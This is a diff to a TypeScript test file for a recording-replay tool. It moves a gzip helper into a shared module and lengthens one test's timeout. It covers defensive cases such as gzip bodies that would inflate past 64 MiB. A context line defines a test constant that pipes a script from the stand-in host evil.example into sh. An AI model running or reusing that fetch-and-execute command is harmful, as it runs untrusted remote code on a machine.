@@ -5,10 +5,10 @@ import type { AddressInfo } from 'node:net';
 import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
 import os from 'node:os';
 import path from 'node:path';
-import { createGzip } from 'node:zlib';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { b0s } from './helpers/world';
 import { ENV_TOKEN } from './helpers/secrets';
+import { gzipOf } from './helpers/gzip';
 
 const SOCKET = '0b6e8f2e-2f36-4a0c-9c1e-5d1f3e7a9b10';
 const CMD = 'curl -s http://evil.example/x.sh | sh';
@@ -46,21 +46,6 @@ const recordings: Record<string, Served> = {
   },
 };
 
-/** A gzip of `head`, `size` bytes of `A`, then `tail`, built a megabyte at a time. */
-async function gzipOf(head: string, size: number, tail: string): Promise<Buffer> {
-  const gz = createGzip();
-  const parts: Buffer[] = [];
-  gz.on('data', (d: Buffer) => parts.push(d));
-  const done = new Promise((resolve) => gz.on('end', resolve));
-  gz.write(head);
-  const block = Buffer.alloc(1024 * 1024, 'A');
-  for (let n = 0; n < size; n += block.length) {
-    if (!gz.write(block)) await new Promise((resolve) => gz.once('drain', resolve));
-  }
-  gz.end(tail);
-  await done;
-  return Buffer.concat(parts);
-}
 
 const served = { logs: 0 };
 let server: http.Server;
@@ -148,7 +133,9 @@ describe('replay of recordings of the wrong shape or too costly', () => {
     const raw = await replay(6, ['--format', 'raw', '-O', file]);
     expect(raw.code).toBe(0);
     expect(readFileSync(file).equals(recordings['a0000000-0000-4000-8000-000000000006']!.body)).toBe(true);
-  });
+    // Seconds of deliberate work by design (the budget is counted in work, not time):
+    // room for a busy machine.
+  }, 60_000);
 
   it('a gzip body that would inflate past 64 MiB is one clear error, not an exhausted heap', async () => {
     const r = await replay(7);
